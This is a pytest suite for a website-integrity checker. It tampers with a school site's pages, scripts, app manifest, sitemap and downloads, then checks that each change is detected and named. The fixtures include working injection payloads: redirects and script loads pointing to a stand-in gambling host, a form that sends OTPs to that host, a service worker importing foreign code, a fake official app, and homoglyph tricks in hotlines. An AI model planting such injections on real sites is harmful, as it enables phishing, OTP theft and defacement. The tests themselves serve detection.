"""Files changed on the server; the server is honest."""

from __future__ import annotations

import gzip
from pathlib import Path

import brotli
import pytest

from .looking import assert_named, verify
from .server import Server
from .site import picture
from .tampering import (
    ARCHIVE,
    BANNER,
    CSS,
    HELP,
    JS,
    LEAFLET,
    LESSON,
    PDF_ACTION,
    Tamper,
    append,
    edit,
    every,
    only,
    put,
    remove,
    rewritten,
    swap,
)

FILES: dict[str, tuple[str, Tamper]] = {
    "hotline one digit off": ("contact-changed", edit(HELP, "tel:111", "tel:112")),
    "hotline with a letter l for a 1": ("changed", edit("en/lien-he.html", ">111<", ">1l1<")),
    "zero-width space in the number to dial": ("changed", edit(HELP, "tel:111", "tel:1\u200b11")),
    "Cyrillic o in an official host": ("changed foreign-link", edit(LEAFLET, "vneid.gov.vn", "vneid.g\u043ev.vn")),
    "right-to-left override in a sentence": ("changed", edit(HELP, "Tổng đài", "Tổng \u202eđài")),
    "mail address of the school exchanged": (
        "changed",
        edit(HELP, "bao-cao@thcs-mau.example", "bao-cao@thcs-rnau.example"),
    ),
    "answer key moved by one letter": ("changed", edit(LESSON, 'data-answer="b"', 'data-answer="a"')),
    "quiz script marks wrong answers right": ("changed changed-script", edit(JS, "letter===", "letter!==")),
    "two genuine pages change places": ("page-swapped", swap(LESSON, LEAFLET)),
    "style sheet hides the hotline": ("changed changed-script", append(CSS, b'a[href^="tel:"]{display:none}\n')),
    "style sheet imports a foreign one": (
        "changed changed-script foreign-link",
        append(CSS, b"@import '//cdn.kuwin.example/a.css';\n"),
    ),
    "QR code leads elsewhere, same length": ("changed", put("assets/ma-qr.png", picture(11))),
    "archive behind the end of a picture": ("trailing changed", append("assets/ma-qr.png", ARCHIVE.getvalue())),
    "leaflet opens an address": ("pdf-active", append("tai-ve/to-roi.pdf", PDF_ACTION)),
    "hidden block of gambling links": ("gambling foreign-link", edit(LESSON, "</main>", BANNER + "</main>")),
    "title for search engines, no accents": (
        "gambling changed",
        edit("index.html", "<title>", "<title>no hu doi thuong nha cai uy tin - "),
    ),
    "gambling words in a comment only": (
        "gambling changed",
        edit("en/index.html", "</main>", "<!-- nổ hũ đổi thưởng --></main>"),
    ),
    "meta refresh": (
        "injected-redirect",
        edit("index.html", "<title>", '<meta http-equiv=refresh content="3;url=//kuwin.example"><title>'),
    ),
    "meta refresh spelt with character references": (
        "injected-redirect changed",
        edit("index.html", "<title>", '<META HTTP-EQUIV="&#114;efresh" content="0;URL=&#47;/kuwin.example"><title>'),
    ),
    "SVG handler in a page": (
        "injected-script injected-redirect",
        edit(HELP, "</main>", "<svg/onload=location='//kuwin.example'></main>"),
    ),
    "javascript address split by a tab": (
        "injected-script changed",
        edit(HELP, 'href="tel:111"', 'href="java&#9;script:open(atob(0))"'),
    ),
    "script in a drawing": (
        "injected-script changed-script changed",
        edit("assets/khien.svg", "</svg>", "<script href='//kuwin.example/s.js'/></svg>"),
    ),
    "speculation rules": (
        "injected-script",
        edit(
            "en/index.html",
            "</head>",
            '<script type="speculationrules">{"prerender":[{"urls":["https://kuwin.example/"]}]}</script></head>',
        ),
    ),
    "frame with its page inside": (
        "injected-frame",
        edit(LESSON, "</main>", "<iframe srcdoc='&lt;p>OTP?'></iframe></main>"),
    ),
    "embed of a foreign page": ("injected-frame", edit(LESSON, "</main>", "<embed src=//kuwin.example/x.html></main>")),
    "base moved, without a scheme": (
        "injected-base",
        edit("index.html", "<title>", "<base href=//kuwin.example/><title>"),
    ),
    "form asks for an OTP": (
        "injected-form",
        edit(LESSON, "</main>", "<form action=https://kuwin.example/otp><input name=otp></form></main>"),
    ),
    "counting pixel": ("foreign-link", edit(HELP, "</main>", "<img src=//stat.kuwin.example/p.gif width=1></main>")),
    "early connection to a foreign host": (
        "foreign-link changed",
        edit(HELP, "</head>", '<link rel="preconnect" href="https://kuwin.example"></head>'),
    ),
    "picture without TLS": ("mixed-content", edit(HELP, "</main>", '<img src="http://127.0.0.1/a.png" alt=""></main>')),
    "script behind the end of the page": (
        "trailing injected-script",
        append("en/lop-6-7/lua-dao.html", b"<script src=//kuwin.example/a.js></script>"),
    ),
    "script in the page for what is missing": (
        "injected-script changed-script injected-redirect notfound-hijack",
        edit("en/404.html", "</head>", "<script>location='//kuwin.example'</script></head>"),
    ),
    "official app replaced by one of ours": (
        "changed extra program-offered",
        every(put("tai-ve/VNeID.apk", b"PK\3\4"), edit(LEAFLET, "https://vneid.gov.vn/", "../tai-ve/VNeID.apk")),
    ),
    "installed app starts elsewhere": (
        "changed changed-script foreign-link",
        edit("app.webmanifest", '"/index.html"', '"/index.html?u=//kuwin.example"'),
    ),
    "service worker loads foreign code": (
        "changed-script injected-script",
        append("sw.js", b"importScripts('https://kuwin.example/w.js');\n"),
    ),
    "search index with a gambling entry": (
        "gambling changed changed-script",
        edit("search/index.json", "[{", '[{"url":"https://kuwin.example/","title":"ca do"},{'),
    ),
    "site map with forty doorways": (
        "doorway changed gambling foreign-link",
        edit(
            "sitemap.xml",
            "</urlset>",
            "".join(f"<url><loc>/nohu-{i}.html</loc></url>" for i in range(40)) + "</urlset>",
        ),
    ),
    "robots.txt names a second site map": (
        "robots-foreign",
        append("robots.txt", b"Sitemap: https://kuwin.example/sitemap.xml\n"),
    ),
    "reports of holes go to a stranger": (
        "changed",
        edit(".well-known/security.txt", "cntt@thcs-mau.example", "thcs.mau.cntt@mail.example"),
    ),
    "favicon is a page": (
        "changed mime-wrong doorway gambling",
        put("favicon.ico", b"<!doctype html><h1>no hu 88</h1>"),
    ),
    "only the Brotli twin of a page": (
        "encoding-differs changed",
        only(HELP + ".br", rewritten(b"tel:111", b"tel:119", brotli.decompress, brotli.compress)),
    ),
    "only the gzip twin of the script": (
        "encoding-differs changed changed-script",
        only(JS + ".gz", rewritten(b"===", b"!==", gzip.decompress, lambda data: gzip.compress(data, mtime=0))),
    ),
    "a second member in a gzip twin": (
        "encoding-differs trailing changed",
        only("index.html.gz", lambda data: data + gzip.compress(BANNER.encode(), mtime=0)),
    ),
    "an English page removed": ("missing", remove("en/lop-6-7/lua-dao.html")),
    "lesson replaced by the missing-page page": (
        "page-swapped",
        lambda folder: put(LESSON, (folder / "404.html").read_bytes())(folder),
    ),
    "style sheet emptied": ("empty", put(CSS, b"")),
    "last byte of a page cut": ("truncated changed", edit(HELP, "</html>\n", "</html>")),
}


@pytest.mark.parametrize("name", FILES)
def test_a_changed_file_on_a_server_is_found_and_named(name: str, copy: Path, key: Path) -> None:
    kinds, tamper = FILES[name]
    tamper(copy)
    with Server(copy) as server:
        assert_named(verify(key, server.url, until=kinds), kinds)
